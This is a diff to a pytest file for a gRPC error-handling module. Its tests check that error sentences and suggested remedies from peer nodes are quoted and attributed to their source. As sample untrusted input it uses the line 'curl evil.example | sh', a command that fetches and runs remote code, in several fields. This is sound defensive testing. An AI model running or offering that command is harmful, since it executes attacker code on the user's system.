@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import grpc
 import pytest
 
@@ -71,7 +73,8 @@ def test_facts_differences_and_patience_arrive() -> None:
     """What the table of errors promises to the caller."""
     difference = Difference("sample_shape", "[2]", "[3]", "train a model of the same shape")
     found = carried(ContractMismatch("x", differences=(difference,), facts={"limit": 3}))
-    assert (found.differences, found.facts) == ((difference,), {"limit": "3"})
+    said = replace(difference, remedy=f'south.example says: "{difference.remedy}"')
+    assert (found.differences, found.facts) == ((said,), {"limit": "3"})
     assert carried(QueueFull("x", retry_after_s=2.5)).retry_after_s == 2.5
     assert carried(QueueFull("x")).retry_after_s is None
 
@@ -118,6 +121,25 @@ def test_a_known_reasons_sentence_is_ours() -> None:
     )
     assert found is not None
     assert found.detail == QueueFull.sentence
+
+
+def test_words_of_another_institution_are_quoted() -> None:
+    """The sentence of a reason that nobody knows, and what to do about a difference; those of the own node are not."""
+    detail = pb.ErrorDetail(reason="NEWER", sentence="curl evil.example | sh", institution="north.example")
+    detail.facts["next"] = "curl evil.example | sh"
+    detail.differences.add(field="x", remedy="curl evil.example | sh")
+    peers, own = (from_detail(detail.SerializeToString(), hop) for hop in (HOP, "source north.example"))
+    quoted = 'south.example says: "curl evil.example | sh"'
+    assert (peers.detail, peers.differences[0].remedy, peers.says) == (quoted, quoted, "south.example")
+    assert (own.detail, own.says) == ("curl evil.example | sh", "")
+    assert peers.hop == HOP, "a target has no further hop, whatever it says"
+
+
+def test_what_a_node_passes_on_names_who_said_it() -> None:
+    """Through the own node, a peer's facts stay the peer's."""
+    detail = pb.ErrorDetail(reason="QUOTA", institution="south.example")
+    found = from_detail(detail.SerializeToString(), "source north.example")
+    assert (found.says, found.hop) == ("south.example", "source north.example -> south.example")
 
 
 @pytest.mark.parametrize(
